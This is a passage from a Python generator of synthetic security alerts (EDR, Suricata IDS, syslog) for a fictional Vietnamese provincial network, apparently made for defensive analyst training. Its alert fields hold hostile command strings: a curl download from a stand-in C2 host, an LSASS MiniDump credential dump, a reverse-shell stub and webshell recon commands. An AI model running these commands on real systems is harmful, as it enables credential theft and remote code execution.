        "description": f"Đăng nhập SSH thành công từ {ip} sau {n} lần thất bại",
        "process": proc(rng, "sshd", "sshd: vanhanh [priv]", "root"),
        "remote_ip": ip,
        "remote_port": ephemeral(rng),
        "action": "detected",
    }


def b_webshell_exec(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    fam, _lang, ext = WEBSHELL[s.stack]
    path = WEBROOT[s.stack] + rng.choice(SHELL_NAMES) + ext
    user = WEB_PROC[s.stack][2]
    cmd = "cmd.exe /c whoami & ipconfig /all" if not s.linux else "sh -c whoami;id;uname -a"
    return {
        "category": "Webshell",
        "threat_name": "Webshell.Exec.SystemCommand",
        "description": f"Webshell {path} thực thi lệnh hệ thống dưới quyền {user}",
        "file": file_obj(path, sample_hash(fam, variant(rng))),
        "process": proc(rng, "cmd.exe" if not s.linux else "sh", cmd, user),
        "action": "killed",
    }


def b_ransom(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    fam = "Ransom.Win32.LockBit"
    path = "C:\\Users\\Administrator\\AppData\\Local\\Temp\\svhost.exe"
    return {
        "category": "Malware",
        "threat_name": fam,
        "description": "Phát hiện hành vi mã hóa tệp hàng loạt (ransomware LockBit), "
        "đã dừng tiến trình",
        "file": file_obj(path, sample_hash(fam, 0)),
        "process": proc(rng, "svhost.exe", path + " -pass 7f3a", "TINH\\svc_backup"),
        "action": "killed",
    }


def b_c2_ioc(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = rng.choice(c.ipsum_events)
    port = rng.choice([443, 8443, 80])
    pname, cmd, user = (
        ("python3", "python3 -c import socket,os,pty;...", "www-data")
        if s.linux
        else (
            "rundll32.exe",
            "rundll32.exe C:\\ProgramData\\wupd.dll,StartW",
            "NT AUTHORITY\\SYSTEM",
        )
    )
    return {
        "category": "Outbound C&C",
        "threat_name": "C2.Outbound.KnownBadIP",
        "description": f"Máy chủ kết nối tới địa chỉ C&C {ip}:{port} thuộc danh sách "
        "địa chỉ độc hại đã biết",
        "process": proc(rng, pname, cmd, user),
        "remote_ip": ip,
        "remote_port": port,
        "action": "blocked",
    }


def b_lsass(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    return {
        "category": "Malware",
        "threat_name": "HackTool.Win32.LSASSDump",
        "description": "Phát hiện trích xuất bộ nhớ tiến trình LSASS (đánh cắp thông tin "
        "xác thực) bằng comsvcs.dll",
        "process": proc(
            rng,
            "rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 "
            "C:\\Windows\\Temp\\ls.dmp full",
            "TINH\\svc_backup",
        ),
        "file": {"path": "C:\\Windows\\Temp\\ls.dmp"},
        "action": "killed",
    }


def b_rootshell(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    user = rng.choice(["www-data", "tomcat"])
    return {
        "category": "Privilege escalation",
        "threat_name": "Exploit.Linux.PwnKit.RootShell",
        "description": f"Khai thác leo thang đặc quyền thành công: tiến trình của {user} "
        "mở shell với quyền root",
        "process": proc(rng, "sh", "/bin/sh -i", "root"),
        "action": "killed",
    }


def _public(s: Server) -> bool:
    return s.public


def _linux(s: Server) -> bool:
    return s.linux


def _windows(s: Server) -> bool:
    return not s.linux


def _any(s: Server) -> bool:
    return True


def _web(s: Server) -> bool:
    return s.stack in {"php", "java", "iis"}


def _winsrv(s: Server) -> bool:
    return s.name in {"srv-qlvb-01", "srv-qlvb-02", "srv-backup-01"}


SERVER_TEMPLATES = [
    Tmpl("medium", 30, _linux, b_ssh_brute),
    Tmpl("medium", 12, _windows, b_rdp_brute),
    Tmpl("medium", 28, _public, b_web_exploit),
    Tmpl("medium", 14, _any, b_susp_proc),
    Tmpl("medium", 9, _any, b_pua),
    Tmpl("medium", 3, _any, b_privesc_med),
    Tmpl("medium", 4, _any, b_outbound_med),
    Tmpl("high", 10, _public, b_webshell_high),
    Tmpl("high", 8, _linux, b_malware_linux),
    Tmpl("high", 3, _windows, b_mimikatz),
    Tmpl("high", 5, _any, b_privesc_high),
    Tmpl("high", 5, _any, b_c2_high),
    Tmpl("high", 4, _linux, b_ssh_success),
    Tmpl("critical", 3, _web, b_webshell_exec),
    Tmpl("critical", 2, _winsrv, b_ransom),
    Tmpl("critical", 3, _any, b_c2_ioc),
    Tmpl("critical", 1, lambda s: s.stack == "ad", b_lsass),
    Tmpl("critical", 2, lambda s: s.linux and s.public, b_rootshell),
]


def server_storyline(
    rng: random.Random, c: Ctx
) -> list[tuple[datetime, str, Server, dict[str, Any]]]:
    """Webshell on the provincial portal, Wednesday 18/11/2026 around 14:00."""
    s = SRV["srv-web-tinh"]
    attacker, c2 = c.ipsum_events[3], c.ipsum_events[5]
    shell = WEBROOT["php"] + "avatar_3821.php"
    shell_file = file_obj(shell, sample_hash("Webshell.PHP.ChinaChopper", 0))
    php = WEB_PROC["php"]
    return [
        (
            at(2, 14, 2, 11),
            "medium",
            s,
            {
                "category": "Exploit attempt",
                "threat_name": "Exploit.HTTP.UnrestrictedUpload",
                "description": f"Phát hiện tải lên tệp .php qua chức năng upload ảnh đại diện của "
                f"cổng thông tin từ {attacker}",
                "process": proc(rng, *php),
                "remote_ip": attacker,
                "remote_port": ephemeral(rng),
                "action": "detected",
            },
        ),
        (
            at(2, 14, 3, 40),
            "high",
            s,
            {
                "category": "Webshell",
                "threat_name": "Webshell.PHP.ChinaChopper",
                "description": f"Phát hiện webshell PHP trong thư mục upload: {shell}",
                "file": shell_file,
                "action": "detected",
            },
        ),
        (
            at(2, 14, 5, 2),
            "critical",
            s,
            {
                "category": "Webshell",
                "threat_name": "Webshell.Exec.SystemCommand",
                "description": f"Webshell {shell} thực thi lệnh hệ thống dưới quyền www-data",
                "file": shell_file,
                "process": proc(rng, "sh", "sh -c whoami;id;uname -a", "www-data"),
                "remote_ip": attacker,
                "remote_port": ephemeral(rng),
                "action": "detected",
            },
        ),
        (
            at(2, 14, 7, 30),
            "critical",
            s,
            {
                "category": "Outbound C&C",
                "threat_name": "C2.Linux.Downloader",
                "description": f"Tiến trình curl của www-data tải script từ "
                f"update-cdn-sync.example ({c2}), đã dừng tiến trình",
                "process": proc(
                    rng,
                    "curl",
                    "curl -s http://update-cdn-sync.example/k.sh -o /tmp/.k",
                    "www-data",
                ),
                "remote_ip": c2,
                "remote_port": 80,
                "action": "killed",
            },
        ),
        (
            at(2, 14, 9, 15),
            "high",
            s,
            {
                "category": "Webshell",
                "threat_name": "Webshell.PHP.ChinaChopper",
                "description": f"Đã cách ly webshell PHP {shell} theo yêu cầu của quản trị viên",
                "file": shell_file,
                "action": "quarantined",
            },
        ),
    ]


def gen_server(rng: random.Random, c: Ctx, variants: Counter[str]) -> list[dict[str, Any]]:
    items = server_storyline(rng, c)
    # a second critical on the AD server, late night on Saturday
    items.append(
        (at(5, 2, 17, 44), "critical", SRV["srv-ad-01"], b_lsass(rng, SRV["srv-ad-01"], c))
    )
    have = Counter(sev for _, sev, _, _ in items)
    for sev, quota in SERVER_QUOTA.items():
        tmpls = [t for t in SERVER_TEMPLATES if t.sev == sev]
        for _ in range(quota - have[sev]):
            t = rng.choices(tmpls, weights=[t.weight for t in tmpls])[0]
            hosts = [s for s in SERVERS if t.hosts(s)]
            s = rng.choice(hosts)
            items.append(
                (rand_time(rng, t.profile).replace(microsecond=0), sev, s, t.build(rng, s, c))
            )
    items.sort(key=lambda x: (x[0], x[2].name))
    out: list[dict[str, Any]] = []
    per_day: Counter[str] = Counter()
    for ts, sev, s, body in items:
        day = ts.strftime("%Y%m%d")
        per_day[day] += 1
        rec: dict[str, Any] = {
            "alert_id": f"SG-{day}-{per_day[day]:06d}",
            "detected_at": iso(ts),
            "hostname": s.name,
            "host_ip": s.ip,
            "os": s.os,
            "severity": apply_variant(rng, sev, variants),
            "category": body["category"],
            "threat_name": body["threat_name"],
            "description": body["description"],
        }
        for key in ("file", "process", "remote_ip", "remote_port"):
            if key in body:
                rec[key] = body[key]
        if "remote_ip" in body:  # who initiated: the remote peer (inbound) or the host
            outbound = body["category"] in {"Outbound C&C", "Malware"}
            rec["direction"] = "outbound" if outbound else "inbound"
        rec["action"] = body["action"]
        rec["agent_id"] = s.agent_id
        out.append(rec)
    ensure_variants(rng, out, "severity", SERVER_QUOTA, variants)
    return out


# --------------------------------------------------------------------------- workstation EDR

ACTION_VI = {
    "Blocked": "đã chặn",
    "Quarantined": "đã cách ly",
    "Cleaned": "đã làm sạch",
    "Detected": "chỉ phát hiện, chưa xử lý",
}


@dataclass
class WDet:
    sev: str
    weight: float
    name: str
    paths: list[str]  # may contain {u}
    message: str
    actions: list[str]
    remote: float = 0.0  # probability of a RemoteAddress
    variants: int = 4
    p0: float = 0.3
    units: list[str] = field(default_factory=list)  # restrict to unit abbrs


LURES = [
    "Quyết định khen thưởng năm 2026.docm",
    "Danh sách cán bộ đi học.xls",
    "Kế hoạch kiểm tra công vụ.doc",
    "Giấy mời họp.doc",
    "Thông báo lương tháng 11.xlsm",
]
OUTLOOK = (
    "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KQ2ZJ1M\\"
)
ZALO = "C:\\Users\\{u}\\Documents\\Zalo Received Files\\"

W_DETECTIONS = [
    WDet(
        "low",
        20,
        "PUP.Optional.Toolbar",
        [
            "C:\\Users\\{u}\\AppData\\Local\\Temp\\toolbar_setup.exe",
            "C:\\Program Files (x86)\\SearchBar\\sbar.dll",
        ],
        "Phát hiện phần mềm không mong muốn (thanh công cụ trình duyệt)",
        ["Detected", "Quarantined", "Quarantined", "Blocked"],
    ),
    WDet(
        "low",
        18,
        "PUP.Optional.BundleInstaller",
        [
            "C:\\Users\\{u}\\Downloads\\unikey_setup.exe",
            "C:\\Users\\{u}\\Downloads\\foxit_reader_setup.exe",
            "C:\\Users\\{u}\\Downloads\\winrar-x64-full.exe",
            "C:\\Users\\{u}\\Downloads\\zoom_installer_full.exe",
        ],
        "Bộ cài đặt kèm phần mềm quảng cáo không mong muốn",
        ["Detected", "Blocked", "Quarantined"],
    ),
    WDet(
        "low",
        22,
        "HackTool.Win32.KMSAuto.a",
        [
            "C:\\Users\\{u}\\Downloads\\KMSAuto Net 2016\\KMSAuto Net.exe",
            "C:\\Windows\\KMSAutoS\\KMSAuto x64.exe",
        ],
        "Phát hiện công cụ bẻ khóa bản quyền Windows/Office (KMSAuto)",
        ["Detected", "Quarantined", "Quarantined"],
    ),
    WDet(
        "low",
        14,
        "RemoteAdmin.Win32.UltraViewer",
        ["C:\\Program Files (x86)\\UltraViewer\\UltraViewer_Desktop.exe"],
        "Phát hiện phần mềm điều khiển máy tính từ xa UltraViewer",
        ["Detected", "Detected", "Blocked"],
    ),
    WDet(
        "low",
        12,
        "Adware.Win32.BrowserAssistant",
        ["C:\\Users\\{u}\\AppData\\Roaming\\BrowserAssistant\\assistant.exe"],
        "Phát hiện phần mềm quảng cáo chèn vào trình duyệt",
        ["Quarantined", "Cleaned", "Detected"],
    ),
    WDet(
        "low",
        8,
        "Riskware.Win32.Crack.IDM",
        ["C:\\Program Files (x86)\\Internet Download Manager\\IDMan_patch.exe"],
        "Phát hiện tệp bẻ khóa phần mềm Internet Download Manager",
        ["Detected", "Quarantined"],
    ),
    WDet(
        "medium",
        18,
        "Trojan.Win32.Agent.xyz",
        [
            "C:\\Users\\{u}\\Downloads\\Hóa đơn điện tử tháng 11.exe",
            ZALO + "Hóa đơn điện tử VAT.exe",
        ],
        "Phát hiện trojan giả mạo hóa đơn điện tử",
        ["Blocked", "Quarantined", "Quarantined"],
        remote=0.4,
        p0=0.5,
    ),
    WDet(
        "medium",
        20,
        "HEUR:Exploit.MSOffice.Generic",
        [OUTLOOK + lure for lure in LURES] + [ZALO + lure for lure in LURES],
        "Tệp tài liệu Office chứa mã khai thác lỗ hổng Microsoft Office",
        ["Blocked", "Quarantined", "Quarantined"],
        variants=6,
        p0=0.0,
    ),
    WDet(
        "medium",
        16,
        "Worm.Win32.AutoRun.gen",
        [
            "E:\\autorun.inf",
            "E:\\Tài liệu họp.exe",
            "F:\\Báo cáo quý IV.exe",
            "E:\\RECYCLER\\S-1-5-21\\svchost.exe",
        ],
        "Phát hiện mã độc lây lan qua thiết bị USB (autorun)",
        ["Cleaned", "Cleaned", "Quarantined"],
        p0=0.5,
    ),
    WDet(
        "medium",
        10,
        "Virus.Win32.Sality.gen",
        [
            "D:\\Phần mềm\\UniKeyNT.exe",
            "D:\\Setup\\vietkey2000.exe",
            "C:\\Program Files (x86)\\PhanMemKeToan\\KeToan.exe",
        ],
        "Phát hiện virus lây nhiễm tệp thực thi (Sality)",
        ["Cleaned", "Cleaned", "Quarantined", "Detected"],
    ),
    WDet(
        "medium",
        12,
        "HEUR:Trojan.Script.Generic",
        [
            "C:\\Users\\{u}\\AppData\\Local\\Temp\\tailieu.js",
            "C:\\Users\\{u}\\AppData\\Local\\Temp\\update.vbs",
        ],
        "Phát hiện script độc hại (JavaScript/VBScript) trong thư mục tạm",
        ["Blocked", "Quarantined"],
        remote=0.3,
    ),
    WDet(
        "medium",
        10,
        "Trojan.HTML.Phishing.gen",
        [
            "C:\\Users\\{u}\\Downloads\\Đăng nhập thư công vụ.html",
            OUTLOOK + "Xac_thuc_tai_khoan.html",
        ],
        "Tệp HTML giả mạo trang đăng nhập thư công vụ, gửi mật khẩu tới mail-gov-vn.example",
        ["Blocked", "Quarantined", "Detected"],
    ),
    WDet(
        "medium",
        8,
        "W97M.Downloader.gen",
        [OUTLOOK + "Bao gia thiet bi.doc", ZALO + "Tờ trình mua sắm.doc"],
        "Macro Word tải mã độc từ Internet",
        ["Blocked", "Quarantined", "Cleaned"],
        remote=0.5,
    ),
    WDet(
        "high",
        10,
        "Backdoor.Win32.PlugX.gen",
        [
            "C:\\ProgramData\\Microsoft\\DeviceSync\\msvcr100.dll",
            "C:\\ProgramData\\SamsungDriver\\sdrv.dll",
        ],
        "Phát hiện backdoor PlugX (nạp DLL giả mạo) kết nối tới api.telemetry-win.example",
        ["Quarantined", "Blocked"],
        remote=0.8,
        p0=0.5,
    ),
    WDet(
        "high",
        8,
        "Trojan-PSW.Win32.RedLine.gen",
        ["C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Network\\netsvc.exe"],
        "Phát hiện mã độc đánh cắp mật khẩu trình duyệt (RedLine)",
        ["Quarantined", "Blocked"],
        remote=0.6,
        p0=0.6,
    ),
    WDet(
        "high",
        5,
        "Trojan-Ransom.Win32.Phobos.gen",
        ["C:\\Users\\{u}\\AppData\\Local\\1.exe"],
        "Phát hiện mã độc tống tiền (Phobos) trước khi mã hóa dữ liệu",
        ["Blocked", "Quarantined"],
    ),
    WDet(
        "high",
        6,
        "HEUR:Backdoor.Win32.CobaltStrike.gen",
        ["C:\\Windows\\Temp\\svchost64.exe"],
        "Phát hiện beacon Cobalt Strike kết nối tới windows-update-kb.invalid",
        ["Blocked", "Quarantined"],
        remote=0.9,
    ),
    WDet(
        "high",
        6,
        "Trojan-Spy.MSIL.AgentTesla.gen",
        ["C:\\Users\\{u}\\AppData\\Local\\Temp\\DON DAT HANG.exe"],
        "Phát hiện mã độc gián điệp AgentTesla (ghi phím, đánh cắp thư điện tử)",
        ["Quarantined", "Blocked"],
        remote=0.5,
    ),
    WDet(
        "high",
        10,
        "HEUR:Trojan.Win32.Generic",
        [
            "C:\\Program Files (x86)\\PhanMemKeToan\\KeToan.exe",
            "C:\\Program Files (x86)\\KySo\\SignPlugin.exe",
        ],
        "Phát hiện theo hành vi (heuristic) trên phần mềm nghiệp vụ, cần xác minh cảnh báo nhầm",
        ["Detected", "Detected", "Quarantined"],
    ),
]
WDET = {d.name: d for d in W_DETECTIONS}


def user_of(ws: Workstation) -> str:
    return ws.user.split("\\", 1)[1]


def w_record(
    rng: random.Random,
    ts: datetime,
    ws: Workstation,
    det: WDet,
    *,
    path: str | None = None,
    var: int | None = None,
    action: str | None = None,
    remote: str | None = None,
    ext: External | None = None,
    variants: Counter[str],
) -> dict[str, Any]:
    if var is None:
        var = 0 if rng.random() < det.p0 else rng.randrange(1, max(det.variants, 2))
    h = sample_hash(det.name, var)
    action = action or rng.choice(det.actions)
    rec: dict[str, Any] = {
        "EventTime": iso(ts),
        "ComputerName": ws.name,
        "IPAddress": ws.ip,
        "UserName": ws.user,
        "Department": ws.unit.name,
        "ThreatLevel": apply_variant(rng, det.sev, variants),
        "DetectionName": det.name,
        "Path": (path or rng.choice(det.paths)).replace("{u}", user_of(ws)),
        "Hash": {"MD5": h["md5"], "SHA1": h["sha1"], "SHA256": h["sha256"]},
        "Action": action,
    }
    if remote is None and ext is not None and det.remote and rng.random() < det.remote:
        remote = ext.pick(p_ipsum=0.25, p_bad=0.1, p_v6=0.05)
    if remote is not None:
        rec["RemoteAddress"] = remote
    rec["Message"] = f"{det.message}; {ACTION_VI[action]}."
    return rec


def gen_workstation(
    rng: random.Random, c: Ctx, pcs: list[Workstation], variants: Counter[str]
) -> list[dict[str, Any]]:
    recs: list[tuple[datetime, dict[str, Any]]] = []
    # Storyline 1: phishing wave, Thursday 19/11 morning, lure "Công văn 941-CATTT khẩn.doc"
    office = WDET["HEUR:Exploit.MSOffice.Generic"]
    victims = rng.sample(pcs, 14)
    t = at(3, 8, 12)
    for i, ws in enumerate(victims):
        t += timedelta(seconds=rng.randint(120, 900))
        where = ZALO if i % 3 else OUTLOOK
        recs.append(
            (
                t,
                w_record(
                    rng,
                    t,
                    ws,
                    office,
                    path=where + "Công văn 941-CATTT khẩn.doc",
                    var=0,
                    action="Detected" if i == 5 else None,
                    variants=variants,
                ),
            )
        )
    patient = victims[5]
    t_px = at(3, 10, 52, 37)
    recs.append(
        (
            t_px,
            w_record(
                rng,
                t_px,
                patient,
                WDET["Backdoor.Win32.PlugX.gen"],
                var=0,
                action="Quarantined",
                remote=c.ipsum_events[7],
                variants=variants,
            ),
        )
    )
    # Storyline 2: USB worm going round UBND huyện Châu Thành all week
    worm = WDET["Worm.Win32.AutoRun.gen"]
    ct = [ws for ws in pcs if ws.unit.abbr == "ubndct"]
    infected = rng.sample(ct, 8)
    for _ in range(22):
        ws = rng.choice(infected)
        ts = rand_time(rng, "office").replace(microsecond=0)
        recs.append((ts, w_record(rng, ts, ws, worm, var=0, variants=variants)))
    have: Counter[str] = Counter()
    for _, r in recs:
        have[WDET[r["DetectionName"]].sev] += 1
    for sev, quota in WORKSTATION_QUOTA.items():
        dets = [d for d in W_DETECTIONS if d.sev == sev]
        for _ in range(quota - have[sev]):
            det = rng.choices(dets, weights=[d.weight for d in dets])[0]
            ws = rng.choice(pcs)
            ts = rand_time(rng, "office").replace(microsecond=0)
            recs.append((ts, w_record(rng, ts, ws, det, ext=c.ext, variants=variants)))
    recs.sort(key=lambda x: (x[0], x[1]["ComputerName"]))
    out = [r for _, r in recs]
    ensure_variants(rng, out, "ThreatLevel", WORKSTATION_QUOTA, variants)
    return out


# --------------------------------------------------------------------------- IDS (ECS)


@dataclass
class Sig:
    sid: int
    name: str
    classtype: str
    proto: str  # app protocol
    ports: list[int]
    weight: float
    direction: str = "in"  # in | out
    targets: Callable[[Server], bool] = _public

    @property
    def priority(self) -> int:
        return CLASSTYPES[self.classtype][1]


SIGS = [
    Sig(
        2034647,
        "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        "attempted-admin",
        "http",
        [8080, 443],
        8,
        targets=lambda s: s.stack == "java",
    ),
    Sig(
        2006445,
        "ET WEB_SERVER SQL Injection Attempt -- SELECT FROM",
        "web-application-attack",
        "http",
        [80, 443],
        10,
        targets=_web,
    ),
    Sig(
        2026731,
        "ET EXPLOIT ThinkPHP RCE Exploitation Attempt",
        "attempted-admin",
        "http",
        [80],
        5,
        targets=lambda s: s.stack == "php",
    ),
    Sig(
        2037787,
        "ET EXPLOIT Zimbra mboximport Path Traversal (CVE-2022-27925)",
        "attempted-admin",
        "http",
        [443],
        3,
        targets=lambda s: s.stack == "mail",
    ),
    Sig(
        2016683,
        "ET WEB_SERVER WebShell Generic - eval(base64_decode",
        "web-application-attack",
        "http",
        [80],
        3,
        targets=lambda s: s.stack == "php",
    ),
    Sig(
        2027863,
        "ET MALWARE Cobalt Strike Beacon Observed CnC Beacon",
        "trojan-activity",
        "tls",
        [443],
        2,
        direction="out",
    ),
    Sig(
        2008187,
        "ET WEB_SERVER /etc/passwd Detected in URI",
        "attempted-recon",
        "http",
        [80, 443],
        14,
        targets=_web,
    ),
    Sig(
        2031502,
        "ET SCAN Possible .env File Access Attempt",
        "attempted-recon",
        "http",
        [80, 443],
        12,
        targets=_web,
    ),
    Sig(2001219, "ET SCAN Potential SSH Scan", "attempted-recon", "ssh", [22], 14),
    Sig(
        2403300,
        "ET CINS Active Threat Intelligence Poor Reputation IP group 1",
        "misc-attack",
        "tcp",
        [22, 80, 443, 3389, 445],
        12,
        targets=lambda s: True,
    ),
    Sig(
        2400001,
        "ET DROP Spamhaus DROP Listed Traffic Inbound group 2",
        "misc-attack",
        "tcp",
        [80, 443],
        8,
        targets=lambda s: True,
    ),
    Sig(
        2010935,
        "ET SCAN Suspicious inbound to MSSQL port 1433",
        "bad-unknown",
        "tcp",
        [1433],
        6,
        targets=lambda s: True,
    ),
    Sig(
        2010937,
        "ET SCAN Suspicious inbound to mySQL port 3306",
        "bad-unknown",
        "tcp",
        [3306],
        6,
        targets=lambda s: True,
    ),
    Sig(
        2009582,
        "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
        "network-scan",
        "http",
        [80, 443, 8080],
        22,
    ),
    Sig(
        2002911,
        "ET SCAN Potential VNC Scan 5900-5920",
        "network-scan",
        "tcp",
        [5900, 5901],
        12,
        targets=lambda s: True,
    ),
    Sig(
        2023753,
        "ET SCAN MS Terminal Server Traffic on Non-standard Port",
        "network-scan",
        "tcp",
        [3390, 33890],
        10,
        targets=lambda s: True,
    ),
    Sig(
        2221010,
        "SURICATA HTTP unable to match response to request",
        "protocol-command-decode",
        "http",
        [80, 8080],
        14,
    ),
    Sig(
        2210045,
        "SURICATA STREAM Packet with invalid ack",
        "protocol-command-decode",
        "tcp",
        [443, 80],
        10,
    ),
    Sig(
        2027757,
        "ET DNS Query for .to TLD",
        "misc-activity",
        "dns",
        [53],
        6,
        direction="out",
        targets=lambda s: True,
    ),
    Sig(
        2013028,
        "ET POLICY curl User-Agent Outbound",
        "misc-activity",
        "http",
        [80],
        8,
        direction="out",
        targets=_linux,
    ),
]
SIG_BY_SID = {s.sid: s for s in SIGS}
UDP_PROTOS = {"dns"}
APP_BY_PORT = {
    22: "ssh",
    25: "smtp",
    80: "http",
    443: "tls",
    445: "smb",
    1433: "tds",
    3306: "mysql",
    3389: "rdp",
    3390: "rdp",
    33890: "rdp",
    5900: "rfb",
    5901: "rfb",
    8080: "http",
}


def ids_record(
    rng: random.Random,
    ts: datetime,
    sig: Sig,
    src: str,
    sport: int,
    dst: str,
    dport: int,
    domain: str | None = None,
) -> dict[str, Any]:
    transport = "udp" if sig.proto in UDP_PROTOS else "tcp"
    app = APP_BY_PORT.get(dport, "failed") if sig.proto == "tcp" else sig.proto
    desc, prio = CLASSTYPES[sig.classtype]
    category = ["intrusion_detection"] if prio <= 2 else ["network"]

    def ep(ip: str, port: int) -> str:
        return f"[{ip}]:{port}" if ":" in ip else f"{ip}:{port}"

    rev = 1 + sig.sid % 5
    fast = (
        f"[**] [1:{sig.sid}:{rev}] {sig.name} [**] [Classification: {desc}] "
        f"[Priority: {prio}] {{{transport.upper()}}} {ep(src, sport)} -> {ep(dst, dport)}"
    )
    rec: dict[str, Any] = {
        "@timestamp": iso(ts, ms=True),
        "event": {
            "kind": "alert",
            "category": category,
            "module": "suricata",
            "dataset": "suricata.eve",
        },
        "source": {"ip": src, "port": sport},
        "destination": {"ip": dst, "port": dport},
        "network": {"transport": transport, "protocol": app},
        "rule": {"id": str(sig.sid), "name": sig.name, "category": desc},
        "observer": {
            "type": "ids",
            "vendor": "OISF",
            "product": "Suricata",
            "hostname": IDS_SENSOR,
        },
        "socd": {"vendor_severity": prio},
        "message": fast,
    }
    if domain:
        rec["destination"]["domain"] = domain
    return rec


def gen_ids(rng: random.Random, c: Ctx) -> list[dict[str, Any]]:
    recs: list[dict[str, Any]] = []
    web = SRV["srv-web-tinh"]
    attacker, c2 = c.ipsum_events[3], c.ipsum_events[5]
    # storyline: webshell upload and C&C download on the portal (cf. server EDR)
    recs.append(
        ids_record(
            rng,
            at(2, 14, 1, 58) + timedelta(milliseconds=412),
            SIG_BY_SID[2016683],
            attacker,
            ephemeral(rng),
            web.ip,
            80,
        )
    )
    recs.append(
        ids_record(
            rng,
            at(2, 14, 7, 29) + timedelta(milliseconds=87),
            Sig(
                2044020,
                "ET MALWARE Linux Downloader CnC Beacon (update-cdn-sync.example)",
                "trojan-activity",
                "http",
                [80],
                0,
                direction="out",
            ),
            web.ip,
            ephemeral(rng),
            c2,
            80,
            domain="update-cdn-sync.example",
        )
    )
    # storyline: SSH scan by the brute-forcer (cf. syslog) and nmap by the password sprayer
    recs.append(
        ids_record(
            rng,
            at(1, 2, 13, 55) + timedelta(milliseconds=3),
            SIG_BY_SID[2001219],
            "203.0.113.7",
            ephemeral(rng),
            SRV["srv-dvc-01"].ip,
            22,
        )
    )
    recs.append(
        ids_record(
            rng,
            at(4, 22, 31, 9) + timedelta(milliseconds=640),
            SIG_BY_SID[2009582],
            "198.51.100.23",
            ephemeral(rng),
            SRV["srv-mail-01"].ip,
            443,
        )
    )
    have = Counter(r["socd"]["vendor_severity"] for r in recs)
    for prio, quota in IDS_QUOTA.items():
        sigs = [s for s in SIGS if s.priority == prio]
        for _ in range(quota - have[prio]):
            sig = rng.choices(sigs, weights=[s.weight for s in sigs])[0]
            ts = rand_time(rng, "server")
            srv = rng.choice(
                [s for s in SERVERS if sig.targets(s) and s.public]
                or [s for s in SERVERS if sig.targets(s)]
            )
            dport = rng.choice(sig.ports)
            domain = None
            if sig.direction == "out":
                src, sport = srv.ip, ephemeral(rng, windows=not srv.linux)
                dst = c.ext.pick(p_ipsum=0.3, p_bad=0.2, p_v6=0.0)
                if sig.sid == 2027863:
                    domain = "windows-update-kb.invalid"
                if sig.proto == "dns":
                    dst = "192.0.2.53"
            else:
                p_ipsum = 0.3 if sig.classtype == "misc-attack" else 0.08
                src, sport = c.ext.pick(p_ipsum=p_ipsum), ephemeral(rng)
                dst = srv.ip
                if ":" in src:  # IPv6 attacker: aim at the portal's IPv6 VIP
                    dst = "2001:db8:10:20::10"
            recs.append(ids_record(rng, ts, sig, src, sport, dst, dport, domain))
    recs.sort(key=lambda r: (r["@timestamp"], r["source"]["ip"]))
    return recs


# --------------------------------------------------------------------------- syslog (ECS)

INVALID_USERS = [
    "admin",
    "test",
    "oracle",
    "ubuntu",
    "postgres",
    "user",
    "git",
    "ftpuser",
    "support",
    "guest",
    "deploy",
    "minecraft",
    "pi",
    "hadoop",
    "administrator",
]
SPRAY_USERS = [
    "ketoan",
    "vanthu",
    "tonghop",
    "hanhchinh",
    "thuquy",
    "quantri",
    "vanhanh",
    "mail",
    "webmaster",
    "hotro",
    "tiepnhan",
    "motcua",
    "dvc",
    "baocao",
    "cntt",
    "phongtccb",
    "giamdoc",
    "phogiamdoc",
    "thanhtra",
    "kehoach",
    "nhansu",
    "ytdp",
    "hoant",
    "ducpv",
    "linhnt",
    "namtv",
    "thaoltt",
    "tuanlm",
    "hieunm",
    "ha.nt",
]
VALID_ADMINS = ["quantri", "vanhanh", "trungnt", "hungpv", "deploy", "ketoan"]
ADMIN_SOURCES = ["10.10.10.11", "10.10.10.12", "10.10.10.14", "10.20.1.31", "10.20.1.37"]
SUDO_CMDS = [
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl restart php8.1-fpm",
    "/usr/bin/apt-get update",
    "/usr/bin/apt-get -y upgrade",
    "/usr/bin/tail -n 200 /var/log/nginx/error.log",
    "/usr/bin/systemctl status tomcat",
    "/usr/bin/du -sh /var/lib/mysql",
    "/usr/sbin/reboot",
    "/usr/bin/docker ps",
    "/usr/bin/journalctl -u sshd --since today",
]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def rfc3164(ts: datetime, host: str, prog: str, pid_: int, msg: str) -> str:
    return f"{MONTHS[ts.month - 1]} {ts.day:>2} {ts:%H:%M:%S} {host} {prog}[{pid_}]: {msg}"


def sys_auth(
    ts: datetime,
    srv: Server,
    prog: str,
    pid_: int,
    msg: str,
    *,
    outcome: str,
    category: list[str],
    etype: list[str],
    action: str,
    user: str,
    src: str | None,
    sport: int | None,
    facility: str,
    level: str,
    effective: str | None = None,
) -> dict[str, Any]:
    rec: dict[str, Any] = {
        "@timestamp": iso(ts),
        "event": {
            "kind": "event",
            "category": category,
            "type": etype,
            "action": action,
            "outcome": outcome,
            "module": "system",
            "dataset": "system.auth",
            "original": rfc3164(ts, srv.name, prog, pid_, msg),
        },
        "host": {"name": srv.name, "ip": [srv.ip]},
    }
    if src is not None:
        rec["source"] = {"ip": src, "port": sport}
    rec["user"] = {"name": user}
    if effective:
        rec["user"]["effective"] = {"name": effective}
    rec["process"] = {"name": prog, "pid": pid_}
    rec["log"] = {"syslog": {"facility": {"name": facility}, "severity": {"name": level}}}
    rec["message"] = msg
    return rec


def ssh_fail(
    ts: datetime, srv: Server, pid_: int, user: str, invalid: bool, src: str, sport: int
) -> dict[str, Any]:
    msg = (
        f"Failed password for {'invalid user ' if invalid else ''}{user} from {src} "
        f"port {sport} ssh2"
    )
    return sys_auth(
        ts,
        srv,
        "sshd",
        pid_,
        msg,
        outcome="failure",
        category=["authentication"],
        etype=["start"],
        action="ssh_login",
        user=user,
        src=src,
